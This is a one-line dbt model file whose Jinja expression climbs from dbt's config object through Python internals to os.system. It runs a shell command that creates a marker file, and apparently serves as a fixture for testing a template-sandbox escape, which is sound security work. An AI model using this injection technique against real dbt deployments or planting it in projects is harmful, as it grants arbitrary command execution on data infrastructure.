{# the globals of medallion-dbt itself, through dbt's config #}
{{ config(materialized='view') }}
select {{ config.__class__.__init__.__globals__.os.system('touch ' ~ env_var('ESCAPE_MARKER')) }} as id
